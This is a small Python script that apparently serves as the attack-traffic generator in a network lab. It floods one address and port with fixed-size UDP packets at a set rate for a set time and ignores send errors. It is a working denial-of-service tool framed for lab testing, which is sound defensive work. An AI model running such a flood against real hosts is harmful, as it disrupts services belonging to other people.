#!/usr/bin/env python3
"""The attacker of the lab: UDP at a steady rate to one address. Only ever used inside the lab's own namespaces.

usage: flood.py ADDRESS PORT MBIT_PER_S SECONDS
"""
import socket
import sys
import time

PAYLOAD = b"x" * 1200
TICK_S = 0.005


def main():
    address, port, mbit, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    out = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((address, port))
    per_tick = max(1, round(mbit * 1e6 / 8 / (len(PAYLOAD) + 28) * TICK_S))
    start = time.monotonic()
    sent = 0
    tick = 0
    while time.monotonic() - start < seconds:
        for _ in range(per_tick):
            try:
                out.send(PAYLOAD)
                sent += 1
            except OSError:  # refused by the victim's kernel, or no buffer: an attacker goes on
                pass
        tick += 1
        time.sleep(max(0.0, start + tick * TICK_S - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main()
